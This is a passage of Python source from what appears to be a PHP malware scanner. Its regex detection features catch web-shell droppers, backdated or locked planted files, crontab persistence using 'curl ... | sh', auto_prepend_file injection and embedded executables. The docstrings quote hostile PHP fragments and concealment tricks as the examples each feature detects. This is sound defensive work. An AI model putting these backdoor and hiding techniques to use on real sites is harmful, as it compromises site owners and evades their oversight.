        if _data_file(ctx, parts[0], start) and not has_any(ctx, _RUNS_OR_RENAMES):
            continue
        for wstart, wargs in calls_to(ctx, _DROP_WRITES, 50):
            if not 0 < start - wstart < 2000:
                continue
            written = _written_path(ctx, wstart, wargs)
            if written is not None and written[1] and written[0] == dest:
                # what the visitor posted, saved with the file's old time kept (a web
                # shell's editor) hides the edit; a restore from a backup does not
                if own_time and not _request_written(ctx, wargs, wstart):
                    continue
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


_REQUEST_TEXT = tight(rb"\$_(?:post|get|request|cookie|files)\b|php://input")


def _request_written(ctx: Ctx, args: bytes, before: int) -> bool:
    """Whether a write's arguments hold request input, directly or through a variable
    set from it before ``before``."""
    if _REQUEST_TEXT.search(args) is not None:
        return True
    for v in itertools.islice(VAR.finditer(args), 6):
        for _, m in var_assigns(ctx.code[:before], v.group(1), _ITEM_RHS, 5):
            if _REQUEST_TEXT.search(m.group(1)) is not None:
                return True
    return False


# the running script itself, as touch() is given it
_SELF_PATH = tight(
    rb"@?\s*(?:__file__|(?:basename|realpath)\s*\(\s*__file__\s*\)|"
    rb"\$_server\s*\[\s*\x01(\d+)\x01\s*\])\s*"
)


@feature("self_backdate")
def _self_backdate(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script that sets its own modification time to an old one (``touch(__FILE__,
    filemtime('index.php'))``, ``touch($_SERVER['SCRIPT_FILENAME'], $oldest)``): a planted
    file made to look as old as its neighbours, so that no one looking for recently changed
    files finds it. A script that touches itself to invalidate a cache sets the time now."""
    code = ctx.code
    for start, args in calls_to(ctx, (b"touch",), 20):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        me = _SELF_PATH.fullmatch(parts[0])
        if me is None:
            continue
        key = me.group(1)
        if key is not None and ctx.lx.value(int(key)).strip().lower() not in _SELF_KEYS:
            continue
        when = parts[1].strip()
        texts = [when]
        for v in itertools.islice(VAR.finditer(when), 4):  # min($times), $old: where they came from
            texts += [m.group(1) for _, m in var_assigns(code[:start], v.group(1), _ITEM_RHS, 5)]
        if any(_BACKDATE.search(t.strip()) is not None for t in texts):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# ``$t = ...`` or ``$t[] = ...``: a value kept, alone or in a list
_ITEM_RHS = tight(rb"\s*(?:\[[^\]]{0,40}\]\s*)?=(?![=>])([^;]{1,200})")


# a time read from a file: the old time a script keeps before it changes the file
_TIME_OF = tight(
    rb"@?\s*(?:filemtime|filectime|fileatime)\s*\(\s*(.{1,200}?)\s*\)\s*$", re.DOTALL
)
# a .php name in a path expression: a literal placeholder's value is checked apart
_PHP_NAME = tight(rb"\.php\b|functions|wp-config")


def _norm(ctx: Ctx, expr: bytes) -> bytes:
    """A path expression compared as written: spaces and a leading @ dropped, each literal
    replaced by its value (the same 'functions.php' written twice has two placeholders)."""
    value = ctx.lx.value
    flat = re.sub(rb"\s+", b"", expr.strip().lstrip(b"@"))
    return PLACEHOLDER.sub(lambda m: b"'" + value(int(m.group(1))).lower() + b"'", flat)


def _php_var(ctx: Ctx, dest: bytes, start: int) -> bool:
    """``dest`` is a variable that names PHP files: set from an expression, or looped over a
    list (``foreach (glob($dir . '/*.php') as $f)``), that holds a .php name."""
    v = VAR.fullmatch(dest)
    if v is None:
        return False
    code = ctx.code[:start]
    texts = [m.group(1) for _, m in var_assigns(code, v.group(1), TAIL_RHS, 5)]
    if find(code, b"foreach") >= 0:  # the pattern starts with it: else none compiled
        loop = re.compile(
            rb"foreach\s*\(([^;{]{1,300}?)\s+as\s+(?:\$\w+\s*=>\s*)?\$" + v.group(1) + rb"\b"
        )
        texts += [m.group(1) for m in itertools.islice(loop.finditer(code), 5)]
    if any(_PHP_NAME.search(_norm(ctx, t).lower()) is not None for t in texts):
        return True
    # built from a name the code compares with a PHP file's (``$p = $d . '/' . $f;`` after
    # ``if ($f == 'index.php')``, ``substr($f, -4) === '.php'``)
    names = {v.group(1)} | {n for t in texts for n in VAR.findall(t)[:4]}
    return any(_php_compared(ctx, n) for n in sorted(names)[:6])


def _php_compared(ctx: Ctx, name: bytes) -> bool:
    """``$name`` (or a piece of it: substr, basename, pathinfo) is compared with a literal
    that names a PHP file."""
    if find(ctx.code, b"$" + name) < 0:
        return False  # both sides of the pattern hold "$name": none compiled for it
    var = (
        rb"(?:(?:substr|basename|pathinfo|strtolower)\s*\(\s*)?\$"
        + re.escape(name)
        + rb"\b[^;{}=!<>]{0,30}"
    )
    rx = re.compile(
        var + rb"[!=]==?\s*\x01(\d+)\x01|\x01(\d+)\x01\s*[!=]==?\s*" + var
    )
    # every match begins with one of these: tried only where one occurs, not at every offset
    words = (b"substr", b"basename", b"pathinfo", b"strtolower", b"$" + name, b"\x01")
    for m in itertools.islice(words_finditer(rx, ctx.code, words), 10):
        lit = m.group(1) or m.group(2)
        if _PHP_NAME.search(ctx.lx.value(int(lit)).lower()) is not None:
            return True
    return False


@feature("write_backdate")
def _write_backdate(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script that reads a PHP file's time (``$t = filectime($f)``), writes the file
    (``file_put_contents($f, $code . $content)``) and sets the old time back (``touch($f,
    $t)``): the change is hidden from anyone who looks for recently modified files (the
    WP-VCD installer infects every theme's functions.php so). Caches set new times, not the
    file's own old one; copies that keep their source's time copy, they do not write."""
    code = ctx.code
    for start, args in calls_to(ctx, (b"touch",), 20):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        dest, when = _norm(ctx, parts[0]), parts[1].strip()
        v = VAR.fullmatch(when)
        texts = [when]
        if v is not None:  # the time kept in a variable before the write
            texts = [m.group(1) for _, m in var_assigns(code[:start], v.group(1), TAIL_RHS, 5)]
        if not any(
            (m := _TIME_OF.match(t.strip())) is not None and _norm(ctx, m.group(1)) == dest
            for t in texts
        ):
            continue
        if _PHP_NAME.search(dest.lower()) is None and not _php_var(ctx, dest, start):
            continue
        for wstart, wargs in calls_to(ctx, (b"file_put_contents",), 50):
            if wstart < start and _norm(ctx, top_args(wargs)[0]) == dest:
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# a time that is now or another file's, which a touch() after a write may set honestly
_NOW_OR_COPIED = tight(
    rb"(?<![\w$>:])(?:micro)?time\s*\(|filemtime|filectime|fileatime|request_time|stat\s*\("
)
# a time that is now: the clock, the request's start
_NOW = tight(rb"(?<![\w$>:])(?:micro)?time\s*\(|request_time")
# another file's time: filemtime($f), filectime, fileatime, stat($f)['mtime']
_FILE_TIME_OF = tight(
    rb"(?<![\w$>:])(?:filemtime|filectime|fileatime|l?stat)\s*\(\s*@?([^()]{1,200}?)\s*\)"
)
_PLANT_WRITES = (b"file_put_contents", b"copy", b"rename", b"move_uploaded_file")


def _written_to(ctx: Ctx, start: int, args: bytes) -> bytes:
    """The path a write call at ``start`` writes (file_put_contents' first argument, the
    destination of copy(), rename(), move_uploaded_file()), as :func:`_norm` writes it."""
    parts = top_args(args)
    if ctx.code.startswith(b"file_put_contents", start):
        return _norm(ctx, parts[0])
    return _norm(ctx, parts[1]) if len(parts) >= 2 else b""


def _kept_time(ctx: Ctx, text: bytes, sources: set[bytes]) -> bool:
    """``text`` (a touch()'s time, or what its variable was set to) is a file's time that a
    write honestly keeps: a time of the file written or of one it was written from (a path
    of ``sources``, or inside one: ``file_get_contents($src)``), or a file time whose path
    cannot be read. Another file's time (``filemtime($dir . '/index.php')``) is chosen."""
    if _NOW_OR_COPIED.search(text) is None:
        return False
    took = [_norm(ctx, m.group(1)) for m in _FILE_TIME_OF.finditer(text)]
    if not took:
        return True
    return any(x in sources or any(x in src for src in sources) for x in took)


@feature("write_backdate_lock")
def _write_backdate_lock(ctx: Ctx, rule: Rule) -> Hit | None:
    """A file the script has just written (file_put_contents, copy) given a chosen time with
    touch() (not now, not the time of the file it was written from; another file's time,
    ``filemtime($dir . '/index.php')``, is a date chosen to match the site's own files) and
    made read-only with chmod (0444, 0555):
    planted copies of a backdoor, dated like the site's own old files and locked against
    the owner's edits (a planter dropping one into every writable folder). A test that ages
    a cache file does not lock it; a copy that keeps its source's time takes it from the
    source."""
    code = ctx.code
    for start, args in calls_to(ctx, (b"touch",), 20):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        times = [parts[1]]
        when = VAR.fullmatch(parts[1].strip())
        if when is not None:
            times += [m.group(1) for _, m in var_assigns(code[:start], when.group(1), TAIL_RHS, 5)]
        if any(_NOW.search(t) is not None for t in times):
            continue
        dest = _norm(ctx, parts[0])
        writes = [
            (wstart, wargs) for wstart, wargs in calls_to(ctx, _PLANT_WRITES, 50)
            if 0 < start - wstart < 800 and _written_to(ctx, wstart, wargs) == dest
        ]
        if not writes:
            continue
        # another file's time is a chosen date unless that file is what was written from
        # (copy($src, $dst); touch($dst, filemtime($src))) or the written file itself
        sources = {_norm(ctx, a) for _, wargs in writes for a in top_args(wargs)} | {dest}
        if any(_kept_time(ctx, t, sources) for t in times):
            continue
        for cstart, cargs in calls_to(ctx, (b"chmod",), 20):
            cparts = top_args(cargs)
            if (
                0 < cstart - start < 600
                and len(cparts) >= 2
                and _norm(ctx, cparts[0]) == dest
                and _read_only_mode(ctx, cparts[1], cstart)
            ):
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# an endless loop: while (true), while (1), for (;;)
_FOREVER = tight(rb"\bwhile\s*\(\s*(?:true|1)\s*\)|\bfor\s*\(\s*;\s*;\s*\)")
def _sleeping_loops(ctx: Ctx) -> Iterator[tuple[int, bytes]]:
    """The first ten endless loops of the file whose body sleeps: each loop's offset and
    its body (a process that stays and acts again and again, not a loop that ends)."""
    code = ctx.code
    for m in itertools.islice(prefiltered_finditer(_FOREVER, code, ctx.first), 10):
        brace = find(code, b"{", m.end(), m.end() + 5)
        if brace < 0:
            continue
        body = braced(code, brace)
        if b"sleep" in body:
            yield m.start(), body


# a mode without the owner's write bit: the file cannot be edited or replaced by its owner
# (0444, 555, PHP 8.1's 0o444)
_READ_ONLY = tight(rb"^0?o?[45][0-7]{2}$")
# the same mode read from text: octdec('0444'), intval('444', 8)
_OCTAL_TEXT = tight(
    rb"^(?:octdec\s*\(\s*\x01(\d+)\x01\s*\)|intval\s*\(\s*\x01(\d+)\x01\s*,\s*8\s*\))$"
)


def _read_only_mode(ctx: Ctx, mode: bytes, before: int) -> bool:
    """``mode`` (a chmod's second argument) takes the owner's write bit away: a literal
    (0444, 0o555), an octal string read with octdec() or intval(..., 8), or a variable set
    to one of those before offset ``before`` (``$ro = 0444; chmod($f, $ro)``)."""
    mode = mode.strip()
    texts = [mode]
    v = VAR.fullmatch(mode)
    if v is not None:
        given = var_assigns(ctx.code[:before], v.group(1), TAIL_RHS, 5)
        texts = [a.group(1).strip() for _, a in given]
    for text in texts:
        if _READ_ONLY.match(text) is not None:
            return True
        m = _OCTAL_TEXT.match(text)
        if m is not None:
            digits = ctx.lx.value(int(m.group(1) or m.group(2))).strip()
            if _READ_ONLY.match(digits) is not None:
                return True
    return False


@feature("lock_loop")
def _lock_loop(ctx: Ctx, rule: Rule) -> Hit | None:
    """An endless loop that keeps setting a file read-only (``while (true) { chmod($f,
    0555); sleep(1); }``): a hijacked index.php or a dropped shell locked against the site
    owner's edits and deletes, for as long as the process lives. Install scripts chmod
    once; daemons that loop do not take the owner's write bit away."""
    code = ctx.code
    for at, body in _sleeping_loops(ctx):
        for _, args in find_calls(body, (b"chmod",), 10):
            parts = top_args(args)
            if len(parts) < 2:
                continue
            if _read_only_mode(ctx, parts[1], len(code)):
                return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 80))
    return None


# content that is PHP code: a literal holding an open tag, decoded data, or a download
_PHP_OPEN = tight(rb"<\?(?:php|=)", re.IGNORECASE)
_RUNS = tight(
    rb"(?:eval|assert|system|exec|passthru|popen|create_function|base64_decode|gzinflate|"
    rb"move_uploaded_file)\s*\(|\$_(?:get|post|request|cookie|files)\b|"
    # a page of the operator's printed or run in every page: a remote fetch echoed, a
    # remote include (injected backlinks, a doorway's text)
    rb"(?:echo|print)\s*\(?\s*@?\s*(?:file_get_contents|implode\s*\([^)]{0,20}file)\s*\(\s*['\"]https?://|"
    rb"(?:include|require)(?:_once)?\s*\(?\s*['\"]https?://",
    re.IGNORECASE,
)


@feature("self_delete_dropper")
def _self_delete_dropper(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script that writes PHP code into a file (a literal holding ``<?php``, decoded data,
    content downloaded from a web address or posted by the visitor) and deletes itself
    (``unlink(__FILE__)``): a one-shot dropper that installs a backdoor and leaves no trace
    of how it came. An installer that removes itself writes configuration built from
    settings, not decoded or downloaded code."""
    if _self_delete(ctx) < 0:
        return None
    for start, args in calls_to(ctx, (b"copy",), 20):  # copy('http://h/x.txt', 'x.php')
        parts = top_args(args)
        if len(parts) < 2:
            continue
        lit = PLACEHOLDER.match(parts[0].strip().lstrip(b"@"))
        if web_address(ctx, lit) and _php_dest(ctx, parts[1], start):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    for start, args in calls_to(ctx, (b"file_put_contents", b"fwrite", b"fputs"), 50):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        content = expression(parts[1])
        written = _written_literals(ctx, content)  # a variable: what it was set to too
        # PHP that runs something: a configuration file an installer writes does not
        literal_php = _PHP_OPEN.search(written) is not None and _RUNS.search(written) is not None
        if (
            literal_php
            or _decoded(ctx, content)
            or _downloads(ctx, content)
            or posted(ctx, content)
        ):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# what a web shell's own code does: run code or a command ...
_SHELL_RUN = tight(
    rb"(?:eval|assert|system|exec|shell_exec|passthru|popen|proc_open)\s*\(|`\s*\$_", re.IGNORECASE
)
# ... with what the visitor sends
_SHELL_INPUT = tight(rb"\$_(?:get|post|request|cookie)\b", re.IGNORECASE)


def _written_literals(ctx: Ctx, content: bytes) -> bytes:
    """The string literals an expression written to a file is made of, and those of the
    values its variable was assigned."""
    texts = [content]
    v = VAR.fullmatch(content.strip())
    if v is not None:
        texts += [am.group(1) for _, am in var_assigns(ctx.code, v.group(1), TAIL_RHS, 10)]
    return b"".join(
        ctx.lx.value(int(p.group(1)))
        for text in texts
        for p in itertools.islice(PLACEHOLDER.finditer(text), 20)
    )


@feature("shell_literal_write")
def _shell_literal_write(ctx: Ctx, rule: Rule) -> Hit | None:
    """A file written with PHP code, held in the script's own literals, that runs what the
    visitor sends (``$f = '<?php system($_GET[cmd]); ?>'; fwrite($h, $f);``): a dropper
    planting a web shell, often far up the tree or inside a defacement page. Code that
    writes PHP files writes configuration and templates, which run nobody's input."""
    for start, args in calls_to(ctx, (b"file_put_contents", b"fwrite", b"fputs"), 50):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        written = _written_literals(ctx, expression(parts[1]))
        if (
            _PHP_OPEN.search(written) is not None
            and _SHELL_RUN.search(written) is not None
            and _SHELL_INPUT.search(written) is not None
        ):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# base64 of the first bytes of a Windows (MZ) or Linux (ELF) executable
_EXE_B64 = tight(rb"\s*(?:TVqQ|TVpQ|TVoA|f0VMR[gk])")


@feature("executable_dropper")
def _executable_dropper(ctx: Ctx, rule: Rule) -> Hit | None:
    """A Windows or Linux executable carried as a base64 literal (``"TVqQAAMAAAAE..."``, the
    MZ or ELF header) by a script that writes decoded data to a file: a password dumper,
    a proxy or a rootkit dropped onto the server from a web page."""
    lx = ctx.lx
    found = -1
    for i in lx.long:
        if len(lx.raw_strings[i]) >= 512 and _EXE_B64.match(lx.raw_strings[i]):
            found = i
            break
    if found < 0:
        return None
    for start, args in calls_to(ctx, (b"file_put_contents", b"fwrite", b"fputs"), 50):
        parts = top_args(args)
        if len(parts) >= 2 and _decoded(ctx, expression(parts[1])):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# include/require and the expression it loads, up to the end of the statement
_INCLUDE_EXPR = tight(
    rb"(?<![\w$>:])(?:include|require)(?:_once)?\b\s*+([^;]{1,200}?)\s*+;"
)
_WRITES = (b"file_put_contents", b"fwrite", b"fputs")


def _path_key(ctx: Ctx, expr: bytes) -> bytes:
    """A comparable form of a path expression: literals by their text, no spaces, no outer
    parentheses or @ (``include("{$d}.x")`` and ``unlink( "{$d}.x" )`` compare equal)."""
    expr = expr.strip()
    while expr.startswith((b"(", b"@")) and (expr[:1] != b"(" or expr.endswith(b")")):
        expr = expr[1:-1].strip() if expr[:1] == b"(" else expr[1:].strip()
    value = ctx.lx.raw_strings
    text = PLACEHOLDER.sub(lambda p: b"'" + value[int(p.group(1))] + b"'", expr)
    return b"".join(text.split())


# literals glued by "." at the start of an expression: '<' . '?php ' . $code
_LEADING_LITERALS = tight(rb"\x01\d+\x01(?:\s*\.\s*\x01\d+\x01)*")
# an open tag at the start of what those literals spell, the rest glued on: "<" . "?" . ...
_OPEN_TAG_START = tight(rb"<\?(?:php\b|=|\s|$)", re.IGNORECASE)
# what follows such a tag when only values are written: var_export() calls and literals
_EXPORTED_ONLY = tight(rb"(?:\s*\.\s*(?:var_export\s*\([^;]*?\)|))*\s*")


def _opens_tag_in_pieces(ctx: Ctx, content: bytes) -> bool:
    """Whether ``content`` begins with literals glued one to the next that spell the start of
    an open tag, and goes on with something else: ``"<" . "?" . chr(112) . ... . $code``,
    ``'<' . '?php ' . $payload``: the tag is cut so that no literal holds it."""
    m = _LEADING_LITERALS.match(content)
    if m is None or m.end() >= len(content):
        return False
    spelled = b"".join(ctx.lx.value(int(p.group(1))) for p in PLACEHOLDER.finditer(m.group(0)))
    if _OPEN_TAG_START.match(spelled) is None:
        return False
    # values exported as PHP (' return ' . var_export($rows, true) . ';'): data, not code
    rest = PLACEHOLDER.sub(b"", content[m.end() :])
    return _EXPORTED_ONLY.fullmatch(rest) is None


def _writes_built_php(ctx: Ctx) -> bool:
    """Whether the script writes PHP code put together from data: a literal holding an
    open tag glued to something (``'<?php ' . $code``) or with a variable written in it
    (``"<?php\n$m[1]\n?>"``), or an open tag spelled by literals glued together and glued
    on to more (``"<" . "?" . $f(112) . ... . $code``). A cache of exported values is built
    by ``var_export`` into a variable, a language file is read and edited as a whole:
    neither glues code here."""
    lx = ctx.lx
    for _start, args in calls_to(ctx, _WRITES, 50):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        content = expression(parts[1]).strip()
        if _opens_tag_in_pieces(ctx, content):
            return True
        for q in itertools.islice(PLACEHOLDER.finditer(content), 10):
            idx = int(q.group(1))
            raw = lx.raw_strings[idx]
            if _PHP_OPEN.search(raw) is None:
                continue
            glued = content != q.group(0)
            if glued or (lx.kinds[idx] in ("dq", "heredoc") and b"$" in raw):
                return True
    return False


@feature("write_include_delete")
def _write_include_delete(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script that writes PHP code glued together from data (``fwrite($h, "<?php
    $code")``), includes a file and deletes that same file (``include $tmp;
    unlink($tmp);``): code that runs without staying in any file anyone can find, the
    loader of droppers that fetch their payload, and the stand-in for ``eval`` of
    backdoors that hide it. Template engines keep the file they include; tools that read
    back values through a temporary file write them with ``var_export`` or copy a file."""
    if not has_any(ctx, _WRITES):
        return None
    deletes = calls_to(ctx, (b"unlink",), 50)
    if not deletes:
        return None
    code = ctx.code
    for m in bounded_finditer(_INCLUDE_EXPR, code, 100):
        key = _path_key(ctx, m.group(1))
        if not key:
            continue
        for start, args in deletes:
            if start < m.end() or start - m.end() > 600:
                continue
            if key in _deleted_keys(ctx, top_args(args)[0], m.end(), start) and _writes_built_php(
                ctx
            ):
                return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), start + 40))
    return None


def _deleted_keys(ctx: Ctx, arg: bytes, after: int, before: int) -> set[bytes]:
    """The path keys (:func:`_path_key`) an unlink's argument stands for: its own, and, for
    a bare variable set between the include and the unlink to another bare variable, that
    one's (``include($p); $q = $p; unlink($q);``)."""
    keys = {_path_key(ctx, arg)}
    v = VAR.fullmatch(arg.strip().lstrip(b"@").strip())
    if v is None:
        return keys
    for pos, am in var_assigns(ctx.code, v.group(1), TAIL_RHS, 5):
        if after <= pos < before:
            src = VAR.fullmatch(am.group(1).strip())
            if src is not None:
                keys.add(b"$" + src.group(1))
    return keys


# crontab read (-l), and written back: from standard input ("crontab -"), or from a file
# whose name follows ("crontab /tmp/x", "crontab " . $tmp)
_CRON_READ = tight(rb"crontab\s+(?:-u\s*\S+\s+)?-l\b")
_CRON_WRITE = tight(rb"crontab\s+(?:-u\s*\S+\s+)?(?:-(?![a-z])|[/~$.]|[\"']?\x00)")
# a download handed to an interpreter: curl ... | sh, wget -O- ... | php
_FETCH_RUN = tight(
    rb"(?:curl|wget|fetch|lwp-download)\b[^\x00|;]{0,200}\|\s*(?:ba|z|da)?sh\b|"
    rb"(?:curl|wget|fetch)\b[^\x00|;]{0,200}\|\s*(?:php|perl|python\d?)\b"
)
_DECODERS = (b"base64_decode", b"str_rot13", b"gzinflate", b"gzuncompress", b"hex2bin",
             b"strrev", b"convert_uudecode")  # fmt: skip
# a job that puts a PHP file back: a download saved as one (wget -O x.php, curl -o x.php)
# (the name may go on in the next literal: "... -O " . __DIR__ . "/x.php")
_FETCH_TO_PHP = tight(
    rb"\b(?:wget|curl)\b[^\x00;|]{0,200}?\s-(?:o|-output(?:-document)?)[\s=]*"
    rb"(?:[^\s;|\x00]*\x00)?[^\s;|\x00]*\.ph(?:p\d?|tml)\b"
)
_JOB_COPY = tight(rb"\*\s+(?:/bin/)?(?:cp|cat)\s")


def _job_restores(ctx: Ctx, text: bytes) -> bool:
    """The job puts a PHP file back in place: a download saved under a .php name (also one
    glued after a folder: ``"wget ... -O " . __DIR__ . "/x.php"``), or a copy (``* * * * *
    cp $keep ...``) in a script that copies itself
    (``copy(__FILE__, $keep)``): the backdoor deleted from the site is back a minute later.
    A site's cron runs its own script."""
    if _FETCH_TO_PHP.search(text) is not None:
        return True
    return _JOB_COPY.search(text) is not None and _SELF_READ.search(ctx.code) is not None


_SELF_READ = tight(rb"(?:copy|file_get_contents|fopen|file|readfile)\s*\(\s*__file__")


def _job_from_request(ctx: Ctx) -> bool:
    """The table written back holds request input: a file given to ``crontab FILE`` written
    with the visitor's text (``file_put_contents($t, $cur . $_POST['job'])``), outside the
    site's own sign-in: anyone runs any command every minute."""
    for start, args in calls_to(ctx, (b"file_put_contents", b"fwrite", b"fputs"), 20):
        parts = top_args(args)
        if (len(parts) >= 2 and UIN_RE.search(parts[1]) is not None
                and not site_session_gated(ctx, start)):
            return True
    return False


@feature("cron_planted")
def _cron_planted(ctx: Ctx, rule: Rule) -> Hit | None:
    """A job added to the account's crontab: the table read (``crontab -l``) and written
    back (``| crontab -``, ``crontab $file``) by a shell command, where the job downloads
    code and hands it to an interpreter (``curl ... | sh``) or is decoded by the script
    first (kept out of sight): malware that comes back after its files are removed. A cron
    page lists the table; a plugin that installs a cron for its own page fetches that page
    and throws the output away."""
    text = string_text(ctx)
    if find(text, b"crontab") < 0 or not (called_any(ctx, EXEC_NAMES_B) or "bq" in ctx.lx.kinds):
        return None
    read = _CRON_READ.search(text)
    if read is None or _CRON_WRITE.search(text + b"\x00") is None:
        return None
    if (
        _FETCH_RUN.search(text) is None
        and not has_any(ctx, _DECODERS)
        and not _job_restores(ctx, text)
        and not _job_from_request(ctx)
    ):
        return None
    idx = string_at(ctx, read.start())
    seg = text[read.start() : read.start() + 80].split(b"\x00")[0]
    return Hit(ctx.line_of_string(idx) if idx >= 0 else 1, excerpt(seg))


_PREPEND_INI = tight(rb"auto_(?:prepend|append)_file")
_TEMP_DIR = tight(rb"/tmp/|/var/tmp/|/dev/shm/")


@feature("prepend_planted")
def _prepend_planted(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script that writes ``auto_prepend_file`` (or ``auto_append_file``) into a
    ``.htaccess`` or ``.user.ini`` and writes a file of content it was sent, decoded or
    downloaded (or puts the prepended file in a temporary folder): every PHP page of the
    site then runs that file first, whichever of them is cleaned. A firewall plugin that
    loads itself so writes its own fixed code beside itself."""
    text = string_text(ctx)
    if _PREPEND_INI.search(text) is None:
        return None
    if find(text, b".htaccess") < 0 and find(text, b".user.ini") < 0:
        return None
    writes = calls_to(ctx, (b"file_put_contents", b"fwrite", b"fputs"), 50)
    if not writes:
        return None
    if _TEMP_DIR.search(text) is not None or ctx.first(b"sys_get_temp_dir") >= 0:
        start = writes[0][0]
        return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    req: set[bytes] | None = None
    for start, args in writes:
        parts = top_args(args)
        if len(parts) < 2:
            continue
        content = parts[1]
        if UIN_RE.search(content) is not None or _downloads(ctx, content) or any(
            content.find(d) >= 0 for d in _DECODERS
        ):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
        if req is None:
            req, dec = taint(ctx)
            req = req | dec
        if set(VAR.findall(content)[:6]) & req:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


_DL_PATH = tight(rb"\.\./|^/(?:tmp|var/tmp|dev/shm)/")


@feature("dl_planted")
def _dl_planted(ctx: Ctx, rule: Rule) -> Hit | None:
    """``dl()`` of a PHP extension the script brings itself: a path that climbs out of the
    extension folder (``dl('../../../../tmp/x.so')``) or a non-literal one, in a script that
    writes or downloads a ``.so`` file: native code loaded into PHP, whose functions run
    outside ``disable_functions``. An old script that loads a stock extension names it
    (``dl('gd.so')``)."""
    for start, args in calls_to(ctx, (b"dl",), 20):
        arg = first_arg(args).strip()
        lit = PLACEHOLDER.fullmatch(arg)
        if lit is not None:
            if _DL_PATH.search(ctx.lx.value(int(lit.group(1)))) is not None:
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
            continue
        if string_text(ctx).find(b".so") >= 0 and has_any(ctx, _WRITE_CALLS):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


_PHP_TARGET = tight(rb"\.(?:php\d?|phtml|pht|phar|inc)\s*$", re.IGNORECASE)


@feature("error_log_php_write")
def _error_log_php_write(ctx: Ctx, rule: Rule) -> Hit | None:
    """``error_log($text, 3, $file)`` (message type 3 appends the text to a file) into a
    file with a PHP extension: a write of code that no ``file_put_contents`` shows. Logs
    go to ``.log`` files."""
    for start, args in calls_to(ctx, (b"error_log",), 50):
        parts = top_args(args)
        if len(parts) < 3 or parts[1].strip() != b"3":
            continue
        last = PLACEHOLDER.findall(parts[2])
        if last and _PHP_TARGET.search(ctx.lx.value(int(last[-1]))) is not None:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# a data file a script keeps (a subscriber list, a log): not a name PHP or the web server
# would run
_DATA_PATH = tight(rb"\.(?:txt|csv|log|json)$", re.IGNORECASE)
_WRITTEN_DECODED = tight(
    rb"(?<![\w$>:])(?:base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|hex2bin|"
    rb"convert_uudecode|rawurldecode|urldecode|bzdecompress|lzf_decompress)\s*\("
)
# a reversal or rot13 of an encoder's output: text turned into storage form, never code
_ENCODED_STORED = tight(
    rb"(?<![\w$>:])(?:strrev|str_rot13)\s*\(\s*@?\s*\\?(?:base64_encode|serialize|json_encode|"
    rb"bin2hex|gzcompress|gzdeflate|gzencode|urlencode|rawurlencode|convert_uuencode)\s*\("
)


# written PHP that opens a setting's value: define('DB_HOST', ' or $db_user = " or 'host' => '
# (the quote that starts the value last)
_CONFIG_VALUE_OPEN = tight(
    rb"(?:define\s*\(\s*(['\"])[\w\x80-\xff]+\1\s*,|\$[\w\x80-\xff]+\s*=|"
    rb"(['\"])[\w\x80-\xff]+\2\s*=>)\s*(['\"])\Z",
    re.I,
)
# written PHP that runs or loads code: not a settings file
_WRITTEN_RUNS = tight(
    rb"(?<![\w$>:])(?:eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|"
    rb"create_function|call_user_func\w*|base64_decode|gzinflate|str_rot13|include|require|"
    rb"include_once|require_once|file_put_contents|fwrite|move_uploaded_file)\b|`|\$_",
    re.I,
)
_LONE_LITERAL = tight(rb"\s*\x01(\d+)\x01\s*")


def _concat_parts(expr: bytes) -> list[bytes]:
    """The operands of the top-level ``.`` concatenations of ``expr`` (one when none)."""
    parts: list[bytes] = []
    depth = 0
    last = 0
    for i, c in enumerate(expr):
        if c in b"([{":
            depth += 1
        elif c in b")]}":
            depth -= 1
        elif c == 46 and depth == 0:  # "."
            before = expr[i - 1 : i] if i else b""
            after = expr[i + 1 : i + 2]
            if after == b"=" or before.isdigit() or after.isdigit() or after == b".":
                continue
            parts.append(expr[last:i])
            last = i + 1
    parts.append(expr[last:])
    return parts


def _write_target(ctx: Ctx, start: int, parts: list[bytes]) -> bytes | None:
    """The path expression of the file the write call at ``start`` (its arguments
    ``parts``, :func:`top_args`) writes: ``file_put_contents``' first argument, or the
    ``fopen()`` path of the handle ``fwrite``/``fputs`` writes to (None: not found)."""
    if ctx.code.startswith(b"file_put_contents", start):
        return parts[0]
    opened = opened_for(ctx, start, parts[0])
    return opened[0] if opened is not None else None


def _config_values_written(ctx: Ctx, start: int, args: bytes) -> bool:
    """The write call at ``start`` puts request input into a file the script names itself
    only as the values of settings of the PHP it writes: each piece of request input glued
    between a literal that ends by opening a quoted value (``define('HOST', '``, ``$db_user
    = "``, ``'host' => '``) and one that starts by closing it with the same quote, and no
    literal of the text written runs or loads code (eval, system, include, base64_decode,
    a write, a superglobal...): an installer saving the database settings its form was
    given (``fwrite($f, "define('HOST', '" . $_POST['host'] . "');")``). A dropper writes
    the code it was sent, or wraps it in a call that runs it."""
    parts = top_args(args)
    if len(parts) < 2:
        return False
    path = _write_target(ctx, start, parts)
